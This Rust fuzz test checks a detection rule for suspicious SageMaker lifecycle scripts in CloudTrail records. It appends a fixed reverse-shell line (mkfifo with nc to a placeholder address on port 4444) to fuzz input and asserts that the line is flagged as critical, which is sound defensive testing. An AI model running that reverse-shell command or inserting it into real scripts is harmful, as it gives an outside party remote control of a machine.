//! The SageMaker lifecycle-script inspector, through the rule that runs it: a script in a
//! CloudTrail record, base64-encoded as SageMaker takes it, or any text in its place.

use aidr_engine::input::Layout;
use aidr_engine::{Finding, Severity};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::{OWN_ACCOUNT, pipeline};

const RULE: &str = "sagemaker.lifecycle_config_suspicious";

/// A line every script judged suspicious for, whatever comes before it.
const REVERSE_SHELL: &[u8] = b"\nmkfifo /tmp/f; nc 192.0.2.1 4444 < /tmp/f | sh > /tmp/f\n";

/// The findings of a record of `name` with `request` as its parameters.
fn judge(name: &str, request: Value) -> Vec<Finding> {
    let record = json!({
        "eventVersion": "1.08",
        "userIdentity": {"type": "IAMUser", "arn": format!("arn:aws:iam::{OWN_ACCOUNT}:user/u"),
            "accountId": OWN_ACCOUNT, "accessKeyId": "AKIAFUZZ"},
        "eventTime": "2026-10-01T00:00:00Z",
        "eventSource": "sagemaker.amazonaws.com",
        "eventName": name,
        "awsRegion": "us-east-1",
        "requestParameters": request,
        "responseElements": null,
        "eventID": "fuzz",
        "recipientAccountId": OWN_ACCOUNT,
    });
    let evaluation = pipeline().read(record.to_string().as_bytes(), Layout::Stream, "fuzz");
    assert_eq!((evaluation.records, evaluation.errors.len()), (1, 0), "{record}");
    evaluation.findings
}

/// Judges `data` as a notebook lifecycle script (base64-encoded), checks that a reverse shell
/// added to it is found (critical), and judges the text of `data` given as the base64 itself
/// (redacted, malformed, wrapped) of a Studio configuration and of `onStart`.
pub fn lifecycle(data: &[u8]) {
    let name = "CreateNotebookInstanceLifecycleConfig";
    let findings = judge(name, json!({"onCreate": [{"content": STANDARD.encode(data)}]}));
    assert!(findings.iter().all(|f| f.rule_id == RULE), "{findings:?}");

    let attack = [data, REVERSE_SHELL].concat();
    let findings = judge(name, json!({"onCreate": [{"content": STANDARD.encode(attack)}]}));
    assert!(
        findings
            .iter()
            .any(|f| f.rule_id == RULE && f.severity == Severity::Critical),
        "a reverse shell missed: {findings:?}"
    );

    if let Ok(text) = std::str::from_utf8(data) {
        judge(
            "CreateStudioLifecycleConfig",
            json!({"studioLifecycleConfigContent": text}),
        );
        judge(
            "UpdateNotebookInstanceLifecycleConfig",
            json!({"onStart": [{"content": text}, text]}),
        );
    }
}
